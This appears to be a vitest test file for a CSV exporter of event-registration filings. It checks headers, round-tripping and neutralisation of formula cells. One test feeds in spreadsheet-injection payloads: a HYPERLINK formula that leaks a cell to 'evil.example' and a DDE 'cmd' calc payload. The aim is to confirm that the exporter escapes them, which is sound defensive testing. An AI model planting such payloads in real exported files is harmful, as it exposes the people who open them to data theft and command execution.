import { describe, expect, it } from 'vitest';
import { exportFilings } from '../../../src/export/index.js';
import { neutralizeCell, cellText } from '../../../src/export/cells.js';
import { allFlows, event, exportContext, keyProjectFiling, openInstitutionsFiling, exhibitorFiling, filing } from '../../support/sample-filings.js';
import { parseCsv } from '../../support/csv.js';

async function csvOf(formId: string, filings: Parameters<typeof exportFilings>[0]['filings']): Promise<{ bytes: Uint8Array; rows: string[][] }> {
  const file = await exportFilings({ format: 'csv', formId, event, flows: allFlows, filings, declarations: [], fieldContext: exportContext() });
  expect(file.mime).toBe('text/csv; charset=utf-8');
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.data);
  expect(text.startsWith('\uFEFF')).toBe(true);
  return { bytes: file.data, rows: parseCsv(text.slice(1)) };
}

describe('neutralizeCell', () => {
  it.each([
    ['=HYPERLINK("http://x","y")', `'=HYPERLINK("http://x","y")`],
    ['+86 138', "'+86 138"],
    ['-1', "'-1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['普通文本', '普通文本'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (input, expected) => {
    expect(neutralizeCell(input)).toBe(expected);
  });
});

describe('cellText', () => {
  it('shows choices by label, ranges written out, files by name and numbers as digits', () => {
    const ctx = exportContext();
    const flow = allFlows.find((f) => f.id === 'key-project');
    const field = (id: string) => flow?.fields.find((f) => f.id === id) ?? expect.unreachable();
    expect(cellText(field('district'), 'shinan', ctx)).toBe('市南区');
    expect(cellText(field('period'), { start: '2021-05-22', end: '2021-05-28' }, ctx)).toBe('2021年5月22日至5月28日');
    expect(cellText(field('budget'), 55000.5, ctx)).toBe('55000.5');
    expect(cellText(field('attendance'), 300, ctx)).toBe('300');
    expect(cellText(field('fax'), null, ctx)).toBe('');
  });
});

describe('CSV export', () => {
  it('has a BOM, CRLF records, the official headers then the staff columns, and round-trips', async () => {
    const kp = keyProjectFiling('shinan', { projectName: '科普讲座，“量子”与\n"未来"' });
    const { rows } = await csvOf('key-project', [kp]);
    expect(rows[0]).toEqual([
      '项目名称', '主办单位', '主管部门', '举办地点', '举办时间', '项目负责人', '联系人', '地址', '邮政编码',
      '联系电话', '传真', '电子邮箱', '活动经费', '拟参加人数', '项目简介', '回执号', '区市', '提交人', '提交时间', '状态',
    ]);
    expect(rows).toHaveLength(2);
    const row = rows[1] ?? [];
    expect(row[0]).toBe('科普讲座，“量子”与\n"未来"');
    expect(row[4]).toBe('2021年5月22日至5月28日');
    expect(row[12]).toBe('55000.5');
    expect(row[13]).toBe('300');
    expect(row[14]).toContain('\n邀请中小学生');
    expect(row.slice(15)).toEqual([kp.receipt, '市南区', '王小明', '2021-04-21 14:45', '已提交']);
  });

  it('writes one line per 附件3 row, the filing columns repeated', async () => {
    const oi = openInstitutionsFiling();
    const { rows } = await csvOf('open-institutions', [oi]);
    expect(rows[0]).toEqual(['填报单位', '单位名称', '开放时间', '开放内容', '具体地址', '联系人', '联系方式', '回执号', '区市', '提交人', '提交时间', '状态']);
    expect(rows.slice(1).map((r) => [r[0], r[1], r[3], r[7]])).toEqual([
      ['黄岛区科学技术局', '中国石油大学（华东）', '重质油国家重点实验室，"油气"科普展', oi.receipt],
      ['黄岛区科学技术局', '山东科技大学', '矿山灾害预防控制实验室\n地质标本馆', oi.receipt],
      ['黄岛区科学技术局', '青岛海洋地质研究所', '海洋地质样品库', oi.receipt],
    ]);
    expect(rows[2]?.[2]).toBe('2021年5月25日');
  });

  it('lists files by name and leaves withdrawn filings and other events out', async () => {
    const ex = exhibitorFiling();
    const gone = exhibitorFiling('shinan');
    gone.status = 'withdrawn';
    const other = { ...exhibitorFiling('jimo'), eventId: 'qingdao-2020' };
    const { rows } = await csvOf('exhibitor', [ex, gone, other]);
    expect(rows).toHaveLength(2);
    expect(rows[1]?.[6]).toBe('氢能汽车.jpg、热电联供, 样机.png');
  });

  it('exports formula-like answers as text', async () => {
    const evil = filing('exhibitor', 'shibei', {
      exhibitor: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
      contactPerson: '@SUM(1+1)*cmd|\' /C calc\'!A0',
      contactPhone: '13800138000',
      description: '+正常的介绍文字，展示内容足够长以通过校验。',
      districtContact: '-刘洋',
      districtContactPhone: '0532-88996677',
      photos: [{ kind: 'photo', fileRef: 'x', name: '=cmd.jpg' }],
    });
    const { rows } = await csvOf('exhibitor', [evil]);
    const row = rows[1] ?? [];
    expect(row[0]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"点击")');
    expect(row[1]?.startsWith("'@SUM(")).toBe(true);
    expect(row[3]?.startsWith("'+")).toBe(true);
    expect(row[4]).toBe("'-刘洋");
    expect(row[6]).toBe("'=cmd.jpg");
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('refuses CSV of every form at once', async () => {
    await expect(
      exportFilings({ format: 'csv', event, flows: allFlows, filings: [], declarations: [], fieldContext: exportContext() }),
    ).rejects.toThrow(/one form/);
  });
});
